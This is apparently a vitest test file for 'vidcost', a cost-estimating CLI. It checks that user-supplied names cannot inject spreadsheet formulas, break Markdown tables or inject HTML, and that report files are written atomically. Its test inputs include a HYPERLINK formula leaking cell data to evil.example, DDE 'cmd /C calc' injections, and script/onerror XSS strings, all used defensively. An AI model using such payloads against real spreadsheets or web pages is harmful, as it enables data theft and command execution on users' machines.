// Output safety: user strings cannot become spreadsheet formulas, break a Markdown table or inject
// HTML; --out writes atomically, never replaces a file without --force, and a failed write leaves
// neither a temporary file nor a half-written target.
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeFileAtomic, type WriteOps } from '../src/cli/files.js';
import { InputError } from '../src/errors.js';
import { escapeMarkdown } from '../src/render/markdown.js';
import { renderCsv } from '../src/render/csv.js';
import { csvRows, tempDir, vidcost, vidcostInProcess } from './helpers.js';

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '| x | <script>alert(1)</script>',
  '[click](javascript:alert(1)) **bold** `code` ~~gone~~ $x$',
  '<img src=x onerror=alert(1)>',
  'line\nbreak | two',
];

function scenarioWith(names: readonly string[], scenarioName = '=cmd|"/c calc"!A1'): string {
  return [
    'version: 1',
    `name: ${JSON.stringify(scenarioName)}`,
    'as_of: 2026-06-01',
    'offerings: [runway/gen4-turbo, fal/kling-3.0-pro]',
    'workloads:',
    ...names.map((n, i) => `  - { name: ${JSON.stringify(n)}, clips_per_month: ${10 + i}, seconds_per_clip: 5 }`),
  ].join('\n');
}

function writeScenario(names: readonly string[]): string {
  const dir = tempDir();
  writeFileSync(join(dir, 's.yaml'), scenarioWith(names));
  return dir;
}

describe('CSV: formula injection is neutralized (OWASP)', () => {
  it('a workload named =HYPERLINK(...) comes out as text through estimate --format csv (built binary)', () => {
    const dir = writeScenario(HOSTILE_NAMES);
    const r = vidcost(['estimate', 's.yaml', '--format', 'csv'], { cwd: dir });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const rows = csvRows(r.stdout);
    const header = rows[0]!;
    const workload = header.indexOf('workload');
    const scenario = header.indexOf('scenario');
    expect(workload).toBeGreaterThanOrEqual(0);
    const names = [...new Set(rows.slice(1).map((row) => row[workload]))];
    expect(names).toEqual(HOSTILE_NAMES.map((n) => (DANGEROUS.includes(n[0]!) ? `'${n}` : n)));
    expect(names[0]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"click me")`);
    expect(rows[1]![scenario]).toBe(`'=cmd|"/c calc"!A1`);
    // no cell of the whole file starts a formula
    for (const row of rows) for (const cell of row) expect(DANGEROUS.includes(cell[0] ?? '')).toBe(false);
    // every row has the header's number of cells: a name cannot add columns or rows
    for (const row of rows) expect(row).toHaveLength(header.length);
    expect(rows).toHaveLength(1 + HOSTILE_NAMES.length * 2);
  });

  it('renderCsv neutralizes each dangerous first character, including the full-width forms', () => {
    const cells = ['=1+1', '+1', '-1x', '-2+3', '@x', '\tx', '\rx', '\uFF1D1+1', 'safe', ' =1'];
    const out = csvRows(
      renderCsv(
        ['c'],
        cells.map((c) => [c]),
      ),
    );
    expect(out.slice(1).map((r) => r[0])).toEqual(["'=1+1", "'+1", "'-1x", "'-2+3", "'@x", "'\tx", "'\rx", "'\uFF1D1+1", 'safe', ' =1']);
  });
});

describe('Markdown: every user string is escaped', () => {
  it('a workload named "| x | <script>" cannot break the table or inject HTML (built binary)', () => {
    const dir = writeScenario(HOSTILE_NAMES);
    const r = vidcost(['estimate', 's.yaml', '--format', 'markdown'], { cwd: dir });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const md = r.stdout;
    expect(md).not.toContain('<script>');
    expect(md).not.toContain('<img');
    expect(md).toContain('&lt;script&gt;');
    // the brackets of a would-be link are escaped, so it stays text
    expect(md).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(md).toContain('\\[click\\](javascript:alert(1))');
    // every table row has as many unescaped pipes as its table's header
    const tables = md.split(/\n\n+/).filter((block) => block.startsWith('|'));
    expect(tables.length).toBeGreaterThan(0);
    const pipes = (line: string) => (line.match(/(?<!\\)\|/g) ?? []).length;
    for (const table of tables) {
      const rows = table.split('\n').filter((l) => l !== '');
      for (const row of rows) expect(pipes(row), row).toBe(pipes(rows[0]!));
    }
    // the hostile name is shown, escaped, on one line
    expect(md).toContain('\\| x \\| &lt;script&gt;alert(1)&lt;/script&gt;');
    expect(md).not.toMatch(/line\nbreak/);
  });

  it('escapeMarkdown leaves no character that starts markup', () => {
    const out = escapeMarkdown('| a | <b>*x*</b> _y_ [l](u) `c` ~s~ $m$ & \\');
    expect(out).toBe('\\| a \\| &lt;b&gt;\\*x\\*&lt;/b&gt; \\_y\\_ \\[l\\](u) \\`c\\` \\~s\\~ \\$m\\$ &amp; \\\\');
    expect(escapeMarkdown('# heading')).toBe('\\# heading');
    // a line break inside a name is shown, not taken: the name stays visibly one name on one line
    expect(escapeMarkdown('a\nb\r\nc\n')).toBe('a\\\\u000Ab\\\\u000D\\\\u000Ac');
  });
});

describe('HTML: every user string is escaped', () => {
  it('no user-supplied tag or attribute survives in the HTML report', async () => {
    const dir = writeScenario(HOSTILE_NAMES);
    const r = await vidcostInProcess(['estimate', 's.yaml', '--format', 'html'], { cwd: dir });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const html = r.stdout;
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).not.toContain('<img src=x onerror=alert(1)>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).not.toMatch(/href\s*=\s*["']?javascript:/i);
  });
});

describe('--out', () => {
  const scenario = () => {
    const dir = tempDir();
    writeFileSync(join(dir, 's.yaml'), scenarioWith(['drafts'], 'Plain'));
    return dir;
  };

  it('writes the report to the file and nothing to stdout, leaving no temporary file (built binary)', () => {
    const dir = scenario();
    const r = vidcost(['estimate', 's.yaml', '--format', 'json', '--out', 'report.json'], { cwd: dir });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(r.stdout).toBe('');
    expect(JSON.parse(readFileSync(join(dir, 'report.json'), 'utf8')).scenario).toBe('Plain');
    expect(readdirSync(dir).sort()).toEqual(['report.json', 's.yaml']);
  });

  it('refuses to replace an existing file without --force, leaving it untouched; replaces it with --force', () => {
    const dir = scenario();
    writeFileSync(join(dir, 'report.json'), 'my precious notes\n');
    const refused = vidcost(['estimate', 's.yaml', '--format', 'json', '--out', 'report.json'], { cwd: dir });
    expect(refused.status).toBe(2);
    expect(refused.stdout).toBe('');
    expect(refused.stderr).toBe('vidcost: report.json: already exists; pass --force to replace it\n');
    expect(readFileSync(join(dir, 'report.json'), 'utf8')).toBe('my precious notes\n');
    const forced = vidcost(['estimate', 's.yaml', '--format', 'json', '--out', 'report.json', '--force'], { cwd: dir });
    expect(forced.status).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'report.json'), 'utf8')).scenario).toBe('Plain');
    expect(readdirSync(dir).sort()).toEqual(['report.json', 's.yaml']);
  });

  it('refuses a directory as --out even with --force, and a missing folder', async () => {
    const dir = scenario();
    const asDir = await vidcostInProcess(['estimate', 's.yaml', '--out', '.', '--force'], { cwd: dir });
    expect(asDir.status).toBe(2);
    expect(asDir.stderr).toBe('vidcost: .: is a directory; expected a file name to write\n');
    const missing = await vidcostInProcess(['estimate', 's.yaml', '--out', 'no/such/dir/r.txt'], { cwd: dir });
    expect(missing.status).toBe(2);
    expect(missing.stderr).toMatch(/^vidcost: no\/such\/dir\/r\.txt: folder .*no\/such\/dir does not exist\n$/);
    expect(readdirSync(dir)).toEqual(['s.yaml']);
  });
});

describe('writeFileAtomic when the file system fails', () => {
  const big = 'x'.repeat(200_000);

  /** Writes the first half of the bytes, then fails as a full disk does. */
  const diskFullHalfway = (): Partial<WriteOps> => {
    let written = 0;
    return {
      writeSync: (fd, data, offset, length) => {
        if (written > 0) throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
        const half = Math.floor(length / 2);
        const n = fs.writeSync(fd, data, offset, half);
        written += n;
        return n;
      },
    };
  };

  it('a write that fails halfway leaves no temporary file and no target', () => {
    const dir = tempDir();
    const target = join(dir, 'report.txt');
    let thrown: unknown;
    try {
      writeFileAtomic(target, big, false, { display: 'report.txt', ops: diskFullHalfway() });
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(InputError);
    expect((thrown as InputError).message).toBe('report.txt: cannot be written: the disk is full');
    expect(readdirSync(dir)).toEqual([]);
  });

  it('a write that fails halfway with --force leaves the old file whole and no temporary file', () => {
    const dir = tempDir();
    const target = join(dir, 'report.txt');
    writeFileSync(target, 'the old report\n');
    expect(() => writeFileAtomic(target, big, true, { ops: diskFullHalfway() })).toThrow(InputError);
    expect(readFileSync(target, 'utf8')).toBe('the old report\n');
    expect(readdirSync(dir)).toEqual(['report.txt']);
  });

  it('a failing rename (the last step) leaves the old file whole and no temporary file', () => {
    const dir = tempDir();
    const target = join(dir, 'report.txt');
    writeFileSync(target, 'the old report\n');
    const ops: Partial<WriteOps> = {
      renameSync: () => {
        throw Object.assign(new Error('EACCES'), { code: 'EACCES' });
      },
    };
    expect(() => writeFileAtomic(target, big, true, { display: 'report.txt', ops })).toThrow('report.txt: cannot be written: permission denied');
    expect(readFileSync(target, 'utf8')).toBe('the old report\n');
    expect(readdirSync(dir)).toEqual(['report.txt']);
  });

  it('a file that appears while the report is written is not replaced without --force', () => {
    const dir = tempDir();
    const target = join(dir, 'report.txt');
    const ops: Partial<WriteOps> = {
      fsyncSync: (fd) => {
        fs.fsyncSync(fd);
        fs.writeFileSync(target, 'written by someone else meanwhile\n');
      },
    };
    expect(() => writeFileAtomic(target, big, false, { display: 'report.txt', ops })).toThrow('report.txt: already exists; pass --force to replace it');
    expect(readFileSync(target, 'utf8')).toBe('written by someone else meanwhile\n');
    expect(readdirSync(dir)).toEqual(['report.txt']);
  });

  it('writes every byte even when the system writes fewer than asked each time', () => {
    const dir = tempDir();
    const target = join(dir, 'report.txt');
    const ops: Partial<WriteOps> = { writeSync: (fd, data, offset, length) => fs.writeSync(fd, data, offset, Math.min(length, 4096)) };
    const text = `${'é'.repeat(50_000)}\n`;
    writeFileAtomic(target, text, false, { ops });
    expect(readFileSync(target, 'utf8')).toBe(text);
    expect(existsSync(target)).toBe(true);
    expect(readdirSync(dir)).toEqual(['report.txt']);
  });
});

describe('a reader that stops early', () => {
  it('`vidcost estimate ... | head -c 1` is no crash: no stack, the exit status kept (built binary)', { timeout: 60_000 }, () => {
    const dir = tempDir();
    // about a megabyte of report: far more than a pipe buffers, so the writes meet a closed pipe
    const names = Array.from({ length: 300 }, (_, i) => `workload ${i}`);
    writeFileSync(join(dir, 's.yaml'), scenarioWith(names, 'Big'));
    const bin = join(__dirname, '..', 'bin', 'vidcost.cjs');
    const r = spawnSync('bash', ['-c', `"${process.execPath}" "${bin}" estimate s.yaml | head -c 1 >/dev/null; echo "status=\${PIPESTATUS[0]}"`], {
      cwd: dir,
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
      env: { PATH: process.env['PATH'] ?? '', NO_COLOR: '1' },
    });
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe('status=0\n');
  });
});

describe('a standard output another program left non-blocking', () => {
  const python = spawnSync('python3', ['--version']).status === 0;
  it.runIf(python && process.platform !== 'win32')('gets the whole report, in order, when its reader is slow (EAGAIN)', { timeout: 60_000 }, () => {
    const dir = tempDir();
    // far more than a pipe buffers, into a non-blocking pipe whose reader waits first: the direct
    // write meets EAGAIN and hands the rest over to the stream, which waits for the reader
    writeFileSync(
      join(dir, 's.yaml'),
      scenarioWith(
        Array.from({ length: 1000 }, (_, i) => `workload ${i}`),
        'Big',
      ),
    );
    const bin = join(__dirname, '..', 'bin', 'vidcost.cjs');
    const reader = [
      'import os, fcntl, subprocess, sys, time',
      'r, w = os.pipe()',
      'fcntl.fcntl(w, fcntl.F_SETFL, fcntl.fcntl(w, fcntl.F_GETFL) | os.O_NONBLOCK)',
      'p = subprocess.Popen(sys.argv[1:], stdout=w)',
      'os.close(w)',
      'time.sleep(1.0)',
      'chunks = []',
      'while True:',
      '    b = os.read(r, 65536)',
      '    if not b: break',
      '    chunks.append(b)',
      'sys.stdout.buffer.write(b"".join(chunks))',
      'sys.exit(p.wait())',
    ].join('\n');
    const env = { PATH: process.env['PATH'] ?? '', NO_COLOR: '1' };
    for (const start of [[bin], [process.execPath, bin]]) {
      // --all-rows: a table of 1,000 workloads is summarised otherwise, and this needs a big report
      const slow = spawnSync('python3', ['-c', reader, ...start, 'estimate', 's.yaml', '--all-rows'], { cwd: dir, encoding: 'utf8', env, maxBuffer: 1 << 26 });
      const plain = spawnSync(process.execPath, [bin, 'estimate', 's.yaml', '--all-rows'], { cwd: dir, encoding: 'utf8', env, maxBuffer: 1 << 26 });
      expect(slow.stderr).toBe('');
      expect(slow.status).toBe(0);
      expect(plain.stdout.length).toBeGreaterThan(200_000);
      expect(slow.stdout).toBe(plain.stdout);
    }
  });
});

describe('extreme but valid numbers draw no JavaScript accidents', () => {
  // 5e-324 is the smallest double: amounts built from it are far below what a float can hold,
  // and 1e9 clips × 3,600 s × 1,000 generations far above a cent's precision in a double.
  const extremes = [
    // no ceiling: the chart's scale is then the largest bar itself, far below a double's range
    ['the smallest double', '5e-324', '5e-324', 1, ''],
    ['the largest amounts', '1000000000', '3600', 1000, 'budget: { monthly_ceiling_usd: 1000 }'],
  ] as const;
  const runs = [
    ['estimate', '--format', 'table'],
    ['estimate', '--format', 'json'],
    ['estimate', '--format', 'markdown'],
    ['estimate', '--format', 'csv'],
    ['estimate', '--format', 'html'],
    ['forecast', '--trials', '200', '--format', 'table'],
    ['forecast', '--trials', '200', '--format', 'html'],
    ['sweep', '--vary', 'seconds_per_clip=1..20', '--steps', '5', '--format', 'table'],
    ['sweep', '--vary', 'seconds_per_clip=1..20', '--steps', '5', '--format', 'html'],
  ];

  it.each(extremes)('%s: every format of estimate, forecast and sweep (no NaN, Infinity or undefined)', async (_, clips, seconds, factor, budget) => {
    const dir = tempDir();
    const scenario = [
      'version: 1',
      'name: Extreme',
      'offerings: [runway/gen4-turbo, runway/veo3.1-fast, fal/kling-3.0-pro]',
      budget,
      'workloads:',
      `  - { name: w, clips_per_month: ${clips}, seconds_per_clip: ${seconds}, regeneration_factor: ${factor} }`,
    ].join('\n');
    writeFileSync(join(dir, 's.yaml'), scenario);
    for (const [command, ...rest] of runs) {
      const r = await vidcostInProcess([command!, 's.yaml', '--as-of', '2026-06-01', ...rest], { cwd: dir });
      expect(r.stderr, `${command} ${rest.join(' ')}`).toBe('');
      expect(r.status, `${command} ${rest.join(' ')}`).toBe(0);
      for (const accident of ['NaN', 'Infinity', 'undefined', '[object Object]'])
        expect(r.stdout.includes(accident), `${command} ${rest.join(' ')} shows ${accident}`).toBe(false);
    }
  });
});
